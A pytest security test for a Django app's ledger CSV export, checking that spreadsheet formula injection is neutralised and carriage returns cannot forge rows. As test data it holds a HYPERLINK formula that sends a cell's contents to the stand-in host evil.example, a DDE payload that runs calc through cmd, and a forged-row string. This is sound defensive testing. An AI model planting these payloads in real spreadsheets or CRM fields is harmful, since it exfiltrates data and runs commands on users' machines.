"""Formula injection into the ledger CSV (security probe, issue 13 item 8; DESIGN §8).

Player names, deal titles, tags and the rest come from a CRM that sales reps type into. A text
cell that a spreadsheet would run as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a
carriage return) gets a leading `'`; number and id columns are never changed. Tags and external
ids are `;`-joined, so what counts is how the joined cell begins: `=x;a` is quoted, `2024;=x` is not
a formula and stays as it is. A carriage return inside a cell must not end the row.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import datetime
from decimal import Decimal
from io import StringIO
from typing import Any

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from players.models import PlayerIdentity
from players.services import player_upsert
from scoring.models import PointType, ScoreSeries, Transaction
from scoring.services import tags_get_or_create, transaction_book
from tests.pipedrive_payloads import deal_v2

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
CALC = "=cmd|' /C calc'!A0"


def from_the_command() -> str:
    out = StringIO()
    call_command("ledger_export", stdout=out)
    return out.getvalue()


def from_the_admin() -> str:
    """The download on the ledger's admin page, as a scoring admin (who may read the ledger)."""
    user = User.objects.create_user("auditor", is_staff=True)
    user.groups.add(Group.objects.get(name="scoring admin"))
    client = Client()
    client.force_login(user)
    response = client.get(reverse("admin:scoring_transaction_export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return response.content.decode()


DOORS = {"manage.py ledger_export": from_the_command, "admin download": from_the_admin}


@pytest.mark.parametrize("door", DOORS.values(), ids=DOORS.keys())
def test_no_text_cell_of_the_ledger_csv_starts_like_a_formula(
    door: Callable[[], str], pipedrive: Any, deliver: Any
) -> None:
    # A rep's CRM name, a deal title and a step name an admin copied from a spreadsheet.
    rep = player_upsert(external_id="pd:1001", name=HYPERLINK, email="").player
    PlayerIdentity.objects.create(player=rep, external_id="@pd:sum")  # joined: pd:1001;@pd:sum
    pipedrive.steps.filter(name="Won deals").update(name="+Won deals")
    won = deliver(pipedrive, deal_v2(7, title=CALC, value=100))
    revoked = deliver(
        pipedrive, deal_v2(7, title=CALC, value=0, update_time="2024-01-02T12:00:00Z")
    )
    # Everything else a text cell can hold, through the service every door books with.
    other = player_upsert(external_id="-pd:1", name="\tTabbed", email="").player
    PlayerIdentity.objects.create(player=other, external_id="pd:2")  # joined: -pd:1;pd:2
    series = ScoreSeries.objects.create(name="-Deals")
    meeting = PointType.objects.create(series=series, name="@Meeting", points=Decimal(10))
    when = datetime.fromisoformat("2024-03-01T10:00:00+00:00")
    manual = transaction_book(
        player=other, series=series, points=Decimal("-10.00"), point_time=when,
        kind=Transaction.Kind.MANUAL, point_type=meeting, comment="+SUM(A1:A9)",
        tags=tags_get_or_create(("@x", "b")), source_object="=deal:+1",
    )  # fmt: skip
    later_tag = transaction_book(
        player=other, series=series, points=Decimal("5.00"), point_time=when,
        kind=Transaction.Kind.MANUAL, comment="\rcarriage return\r1,2024-03-01,forged row",
        tags=tags_get_or_create(("=x", "2024")),  # sorted, joined: 2024;=x, no formula
    )  # fmt: skip
    plain = transaction_book(
        player=rep, series=series, points=Decimal("1.00"), point_time=when,
        kind=Transaction.Kind.MANUAL, comment="well done - again", tags=tags_get_or_create(("b",)),
    )  # fmt: skip

    rows = {int(row["id"]): row for row in csv.DictReader(StringIO(door(), newline=""))}

    award, revoke = Transaction.objects.filter(event__in=[won, revoked]).order_by("id")
    assert rows[award.pk]["player"] == "'" + HYPERLINK
    assert rows[award.pk]["player_external_ids"] == "pd:1001;@pd:sum"  # begins harmlessly
    assert rows[award.pk]["comment"] == "'" + CALC
    assert rows[award.pk]["step"] == "'+Won deals"
    assert rows[award.pk]["source_object"] == "deal:7"
    assert rows[revoke.pk]["points"] == "-100.00"  # numbers are never quoted
    assert rows[revoke.pk]["revokes"] == str(award.pk)
    assert rows[revoke.pk]["comment"] == "'" + CALC
    assert rows[manual.pk] == {
        "id": str(manual.pk),
        "point_time": "2024-03-01T10:00:00Z",
        "created_at": rows[manual.pk]["created_at"],
        "player": "'\tTabbed",
        "player_external_ids": "'-pd:1;pd:2",
        "series": "'-Deals",
        "points": "-10.00",
        "point_type": "'@Meeting",
        "tags": "'@x;b",
        "comment": "'+SUM(A1:A9)",
        "kind": "manual",
        "revokes": "",
        "step": "",
        "source_object": "'=deal:+1",
        "event": "",
    }
    assert rows[later_tag.pk]["tags"] == "2024;=x"
    # A carriage return would end the row for a reader: it becomes a line feed, in quotes.
    assert rows[later_tag.pk]["comment"] == "'\ncarriage return\n1,2024-03-01,forged row"
    assert sorted(rows) == sorted(Transaction.objects.values_list("id", flat=True))
    assert rows[plain.pk]["comment"] == "well done - again"
    assert rows[plain.pk]["tags"] == "b"
    for row in rows.values():
        for column in ("player", "player_external_ids", "series", "point_type", "tags",
                       "comment", "step", "source_object"):  # fmt: skip
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row)
